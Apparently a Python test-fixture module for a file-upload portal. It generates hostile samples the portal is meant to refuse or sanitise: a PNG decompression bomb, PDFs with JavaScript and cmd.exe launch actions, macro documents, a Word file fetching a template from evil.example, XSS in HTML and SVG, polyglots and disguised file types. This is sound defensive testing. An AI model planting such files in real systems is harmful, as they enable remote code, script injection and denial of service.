"""Files of every class, made anew from a seed: what the portal must refuse or make harmless, and what it must keep."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from random import Random
from typing import Any

import openpyxl
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject
from reportlab.pdfgen.canvas import Canvas

Made = tuple[str, bytes]
"""A file's name, and its content."""
Make = Callable[[Random], Made]

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SECRET = "53.4808N 2.2426W Sony ILCE-7M4"
"""What a camera wrote beside the picture; no kept file has it."""

_WORDS = "invoice remittance baler tractor knotter paid signed policy machine Moorbeck £ é ü depot".split()
_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def words(random: Random, number: int = 12) -> str:
    return " ".join(random.choices(_WORDS, k=number))


# ------------------------------------------------------------------------------------------------------------ pictures
def picture(random: Random, *, size: tuple[int, int] | None = None, mode: str = "RGB") -> Image.Image:
    made = Image.new(mode, size or (random.randint(20, 200), random.randint(20, 200)))
    small = Image.frombytes("RGB", (8, 8), random.randbytes(192)).resize(made.size).convert(mode)
    made.paste(small)
    return made


def saved(image: Image.Image, form: str, **more: Any) -> bytes:
    out = io.BytesIO()
    image.save(out, form, **more)
    return out.getvalue()


PICTURE = saved(Image.new("RGB", (640, 320), "teal"), "PNG")


def camera_data(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E], exif[0x0112], exif[0x013B] = SECRET, orientation, SECRET
    return exif


def with_camera_data(random: Random) -> Made:
    exif = camera_data(random.choice((1, 3, 6, 8)))
    image = picture(random)
    if random.random() < 0.5:
        return "photo.jpg", saved(image, "JPEG", exif=exif, comment=SECRET.encode())
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", SECRET)
    return "photo.png", saved(image, "PNG", exif=exif, pnginfo=told)


def pixel_bomb(random: Random) -> Made:
    """A PNG of 49 to 3,600 million pixels, in a few bytes."""
    width, height = random.randint(7_000, 60_000), random.randint(7_000, 60_000)
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = (b"IHDR", header), (b"IDAT", zlib.compress(bytes(1_000))), (b"IEND", b"")
    body = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts
    )
    return "scan.png", b"\x89PNG\r\n\x1a\n" + body


def damaged_picture(random: Random) -> Made:
    data = saved(picture(random, size=(200, 200)), "PNG")
    return "photo.png", data[: random.randint(20, len(data) // 2)]


# ----------------------------------------------------------------------------------------------------------------- PDF
def pdf(random: Random, pages: int | None = None) -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, invariant=True)
    for _ in range(pages or random.randint(1, 4)):
        canvas.drawString(72, 720, words(random))
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def written(random: Random, change: Callable[[PdfWriter], object]) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf(random))))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _launch(writer: PdfWriter) -> None:
    action = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
    writer.root_object[NameObject("/OpenAction")] = action


def _script(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )
    writer.root_object[NameObject("/OpenAction")] = action


def active_pdf(random: Random) -> Made:
    changes: tuple[Callable[[PdfWriter], object], ...] = (
        _script,
        _launch,
        lambda writer: writer.add_attachment("invoice.exe", b"MZ"),
    )
    data = written(random, random.choice(changes))
    if random.random() < 0.3:  # names may be written in hexadecimal
        data = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/Launch", b"/L#61unch")
    return "terms.pdf", data


def encrypted_pdf(random: Random) -> Made:
    return "schedule.pdf", written(random, lambda w: w.encrypt("horse", algorithm="RC4-128"))


def damaged_pdf(random: Random) -> Made:
    data = pdf(random)
    match random.randrange(3):
        case 0:
            return "terms.pdf", data[: random.randint(8, len(data) // 3)]
        case 1:
            return "terms.pdf", b"%PDF-1.7\n" + random.randbytes(2_000)
        case _:
            return "terms.pdf", data + b"\n" + random.randbytes(500)


# -------------------------------------------------------------------------------------------------------------- office
def zipped(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in parts.items():
            packed.writestr(name, data)
    return out.getvalue()


def docx_parts(random: Random, main: str = _DOCX) -> dict[str, bytes]:
    text = words(random)
    types = f'<Types xmlns="t"><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    relation = f'<Relationship Id="1" Type="{_RELATION}officeDocument" Target="word/document.xml"/>'
    relations = f'<Relationships xmlns="r">{relation}</Relationships>'
    return {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": relations.encode(),
        "word/document.xml": f"<w:document xmlns:w='w'><w:p>{text}</w:p></w:document>".encode(),
    }


def docx(random: Random) -> bytes:
    return zipped(docx_parts(random))


def xlsx(random: Random) -> bytes:
    book = openpyxl.Workbook()
    sheet: Any = book.active
    for _ in range(random.randint(1, 30)):
        sheet.append([words(random, 2), random.randint(0, 10**6)])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def macro_document(random: Random) -> Made:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    match random.randrange(3):
        case 0:
            return "order.docm", zipped({**docx_parts(random, macro), "word/vbaProject.bin": random.randbytes(99)})
        case 1:
            return "order.docx", zipped({**docx_parts(random), "word/embeddings/oleObject1.bin": random.randbytes(99)})
        case _:
            return "order.docx", zipped(docx_parts(random, macro.replace("macro", "&#109;acro")))


def reaching_document(random: Random) -> Made:
    """A document that fetches a template, or names an entity of a DTD."""
    parts = docx_parts(random)
    if random.random() < 0.5:
        kind = f"{_RELATION}attachedTemplate"
        parts["word/_rels/settings.xml.rels"] = (
            f'<R><Relationship Type="{kind}" Target="https://evil.example/t.dotm" TargetMode="External"/></R>'.encode()
        )
    else:
        parts["[Content_Types].xml"] = b'<!DOCTYPE t [<!ENTITY x "y">]>' + parts["[Content_Types].xml"]
    return "order.docx", zipped(parts)


def archive(random: Random) -> Made:
    inner = zipped({f"{n}.txt": words(random).encode() for n in range(random.randint(1, 5))})
    return random.choice(("photos.zip", "photos.docx", "photos.pdf")), inner


# ---------------------------------------------------------------------------------------------------------------- text
def html(random: Random) -> Made:
    start = random.choice(
        ("<!DOCTYPE html>", "<html>", "\ufeff<html>", "  <HTML>", "<body onload=alert(1)>", "<script>")
    )
    name = random.choice(("statement.html", "statement.pdf", "statement.txt", "statement.csv", "statement.jpg"))
    return name, f"{start}<p>{words(random)}</p><script>alert(1)</script>".encode()


def svg(random: Random) -> Made:
    name = random.choice(("logo.svg", "logo.png", "logo.txt"))
    start = random.choice(("", '<?xml version="1.0"?>', "<!-- x -->"))
    return name, f'{start}<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{words(random)}</svg>'.encode()


def polyglot(random: Random) -> Made:
    """Two files in one: a reader that guesses takes it for the other."""
    page = b"<html><script>alert(1)</script></html>"
    inner = zipped({"a.html": page})
    match random.randrange(5):
        case 0:
            return "terms.pdf", pdf(random) + inner
        case 1:
            return "terms.pdf", b"%PDF-1.4\n%" + page + b"\n" + pdf(random)[9:]
        case 2:
            return "photo.jpg", saved(picture(random), "JPEG") + page + inner
        case 3:
            return "terms.docx", page + docx(random)
        case _:
            return "photo.pdf", page + pdf(random)


def wrong_type(random: Random) -> Made:
    starts = (
        b"MZ\x90\x00",
        b"\x7fELF\x02\x01",
        b"GIF89a\x01\x00",
        b"\x00\x00\x00\x18ftypisom",
        b"Rar!\x1a\x07",
        b"\xca\xfe\xba\xbe",
    )
    name = random.choice(("invoice.pdf", "photo.jpg", "setup.exe", "notes.txt", "order.docx"))
    return name, random.choice(starts) + bytes(random.randrange(8)) + random.randbytes(random.randint(100, 3_000))


def script(random: Random) -> Made:
    name = random.choice(("run.js", "run.bat", "run.ps1", "page.htm", "run.vbs", "tool.sh"))
    return name, f"echo {words(random)}\r\n".encode()


def old_office(random: Random) -> Made:
    inner = random.choice((b"WordDocument", "EncryptedPackage".encode("utf-16-le")))
    data = bytes.fromhex("d0cf11e0a1b11ae1") + random.randbytes(600).replace(b"E", b"e") + inner
    return random.choice(("letter.doc", "letter.docx", "list.xls")), data


def heic(random: Random) -> Made:
    return "IMG_2041.HEIC", b"\x00\x00\x00\x18ftyp" + random.choice((b"heic", b"mif1")) + random.randbytes(400)


HOSTILE: Mapping[str, Make] = {
    "a web page": html,
    "an SVG": svg,
    "two files in one": polyglot,
    "macros": macro_document,
    "a document that reaches out": reaching_document,
    "a picture bomb": pixel_bomb,
    "a damaged picture": damaged_picture,
    "a PDF that does something": active_pdf,
    "a PDF with a password": encrypted_pdf,
    "a damaged PDF": damaged_pdf,
    "an archive": archive,
    "another type": wrong_type,
    "a script": script,
    "old or protected Office": old_office,
    "HEIC": heic,
}
"""Refused, or kept without what was hostile in it."""


# ---------------------------------------------------------------------------------------------------------- legitimate
def photo(random: Random) -> Made:
    form, name = random.choice((("JPEG", "IMG_2041.JPG"), ("PNG", "scan.png"), ("WEBP", "photo.webp")))
    modes = {"JPEG": ("RGB", "L", "CMYK"), "PNG": ("RGB", "RGBA", "L", "LA", "P", "1"), "WEBP": ("RGB", "RGBA")}
    return name, saved(picture(random, mode=random.choice(modes[form])), form)


def paper(random: Random) -> Made:
    data = pdf(random)
    match random.randrange(4):
        case 0:
            data += random.choice((b"\n", b"\r\n", b"\0" * 20))
        case 1:
            data = written(random, lambda writer: writer.add_metadata({"/Title": words(random)}))
        case 2:
            data = written(random, lambda writer: writer.add_outline_item(title="1", page_number=0))
        case _:
            pass
    return random.choice(("terms.pdf", "remittance.PDF", "ohne-endung")), data


def letter(random: Random) -> Made:
    parts = docx_parts(random)
    if random.random() < 0.5:
        link = f'<R><Relationship Type="{_RELATION}hyperlink" Target="https://a.example" TargetMode="External"/></R>'
        parts["word/_rels/document.xml.rels"] = link.encode()
    return "letter.docx", zipped(parts)


def workbook(random: Random) -> Made:
    return "machines.xlsx", xlsx(random)


def table(random: Random) -> Made:
    lines = "\r\n".join(f"{words(random, 2)};{random.randint(0, 999)},50" for _ in range(20))
    return "remittance.csv", lines.encode(random.choice(("utf-8", "utf-8-sig", "cp1252", "utf-16")))


def note(random: Random) -> Made:
    text = f"{words(random)}\n5 < 6, a<b and <paid@moorbeck.example>\n\t{words(random)}"
    return "note.txt", text.encode(random.choice(("utf-8", "utf-8-sig", "cp1252")))


LEGITIMATE: Mapping[str, Make] = {
    "a photo": photo,
    "a photo with its camera's data": with_camera_data,
    "a PDF": paper,
    "a Word document": letter,
    "an Excel workbook": workbook,
    "a CSV": table,
    "a note": note,
}
